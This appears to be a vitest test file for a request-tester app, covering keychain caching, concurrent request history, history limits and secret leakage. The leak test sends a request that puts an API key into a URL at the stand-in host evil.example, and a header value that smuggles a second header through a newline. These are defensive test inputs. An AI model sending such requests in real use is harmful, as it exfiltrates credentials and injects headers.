/**
 * The request tester under load, against the emulator over HTTP: the keychain is read once per account and
 * credential kind for a whole session, 50 concurrent requests all finish with a consistent history in the real
 * settings file, and no real secret reaches the settings file, an error message or a response.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Result } from '../../src-shared/errors';
import { HISTORY_LIMIT, type HistoryEntry } from '../../src-shared/tester';
import { secretStoreVariants } from '../helpers/service-context';
import { startTester, value, type TesterFixture } from '../helpers/tester-context';
import { CountingSecretStore } from '../helpers/counting-secret-store';

/** Passes every call through and counts the reads that reach the store. */

const variants = await secretStoreVariants();

describe.each(variants)('the keychain is read once per session ($name)', (variant) => {
  let f: TesterFixture;
  let store: CountingSecretStore;
  beforeAll(async () => {
    if (variant.skip) return;
    store = new CountingSecretStore(variant.make());
    f = await startTester({ secrets: store });
  });
  afterAll(async () => {
    if (!f) return;
    await f.vault.deleteAll(f.account.id);
    await f.close();
  });

  it.skipIf(variant.skip !== null)(`reads each credential once for 50 sequential sends after a restart${variant.skip ? ` (skipped: ${variant.skip})` : ''}`, async () => {
    f.restart();
    store.reads = 0;
    for (let i = 0; i < 50; i += 1) {
      const r = value(await f.send({ path: '/api/v1/users/me', auth: i % 2 === 0 ? 'api-key' : 'token' }));
      expect(r.status).toBe(200);
    }
    expect(store.reads).toBe(2);
      });
});

describe('load and leaks, with the real settings file', () => {
  let f: TesterFixture;
  const errors: string[] = [];
  const bodies: string[] = [];
  const collect = (r: Result<{ text: string; explanation: string | null }>) => {
    if (r.ok) bodies.push(r.value.text, r.value.explanation ?? '');
    else errors.push(r.error.message);
    return r;
  };

  beforeAll(async () => {
    f = await startTester({ storage: 'settings-file' });
  });
  afterAll(() => f?.close());

  it('completes 50 concurrent requests with 50 consistent history entries', async () => {
    await f.handlers.clearHistory({});
    const results = await Promise.all(
      Array.from({ length: 50 }, (_, i) =>
        f.send({ path: i % 5 === 0 ? '/api/v1/items' : '/api/v1/users/me', auth: i % 2 === 0 ? 'api-key' : 'token' }, `burst-${i}`),
      ),
    );
    expect(results.map((r) => r.ok && r.value.status)).toEqual(Array(50).fill(200));
    const history = value(await f.handlers.listHistory({}));
    expect(history).toHaveLength(50);
    expect(new Set(history.map((e) => e.id))).toEqual(new Set(results.map((r) => r.ok && r.value.historyId)));
    f.handlers.dispose(); // writes the history out now
    const onDisk = (JSON.parse(f.kvText()) as { history: HistoryEntry[] }).history;
    expect(onDisk.map((e) => e.id)).toEqual(history.map((e) => e.id));
    expect(onDisk.filter((e) => e.credentialKind === 'api-key')).toHaveLength(25);
  });

  it('keeps at most 200 entries after a burst of 210 sequential requests', async () => {
    for (let i = 0; i < 210; i += 1) value(await f.send({ path: '/api/v1/utils/health-check/', auth: 'none' }));
    f.handlers.dispose();
    const onDisk = (JSON.parse(f.kvText()) as { history: HistoryEntry[] }).history;
    expect(onDisk).toHaveLength(HISTORY_LIMIT);
    expect(value(await f.handlers.listHistory({}))).toHaveLength(HISTORY_LIMIT);
  });

  it('never writes a real key or token to the settings file, an error message or a response', async () => {
    const { apiKey, token } = f;
    // Secrets typed by the user, everywhere a request has room for them.
    collect(await f.send({ path: `/api/v1/items?api_key=${apiKey}`, headers: [{ name: 'X-API-Key', value: apiKey, enabled: true }] }));
    collect(await f.send({ path: '/api/v1/items', query: [{ name: 'q', value: token, enabled: true }], auth: 'token' }));
    collect(await f.send({ method: 'POST', path: '/api/v1/items', body: { kind: 'json', text: `{"title": "${token}"}` } }));
    collect(await f.send({ method: 'POST', path: '/api/v1/items', body: { kind: 'json', text: `{"title": "${apiKey}",}` } }));
    collect(
      await f.send({
        method: 'POST',
        path: '/api/v1/login/access-token',
        auth: 'none',
        headers: [{ name: 'Authorization', value: `Bearer ${token}`, enabled: true }],
        body: { kind: 'form', fields: [{ name: 'username', value: 'ada@deepcurrent.test', enabled: true }, { name: 'password', value: 'deepcurrent-demo', enabled: true }] },
      }),
    );
    collect(await f.send({ path: `http://evil.example/${apiKey}` }));
    collect(await f.send({ path: '/api/v1/items', headers: [{ name: `${apiKey} bad`, value: '1', enabled: true }] }));
    collect(await f.send({ path: '/api/v1/items', headers: [{ name: 'X-Bad', value: `${token}\nX-Evil: 1`, enabled: true }] }));
    // Failures of every kind with the credential attached.
    f.setTimeoutSeconds(1);
    await f.fault({ mode: 'stall', path: '/api/v1/users/me', times: 1 });
    collect(await f.send({ path: '/api/v1/users/me' }));
    await f.fault({ mode: 'refuse', path: '/api/v1/users/me', times: 1 });
    collect(await f.send({ path: '/api/v1/users/me', auth: 'token' }));
    collect(await f.send({ path: '/api/v1/usage', auth: 'token' }));
    f.setTimeoutSeconds(30);
    f.handlers.dispose();

    expect(errors.length).toBeGreaterThanOrEqual(6);
    const history = JSON.stringify(value(await f.handlers.listHistory({})));
    for (const secret of f.seen) {
      expect(f.kvText()).not.toContain(secret);
      expect(history).not.toContain(secret);
      for (const text of [...errors, ...bodies]) expect(text).not.toContain(secret);
    }
    expect(f.kvText()).not.toContain('deepcurrent-demo');
  });
});
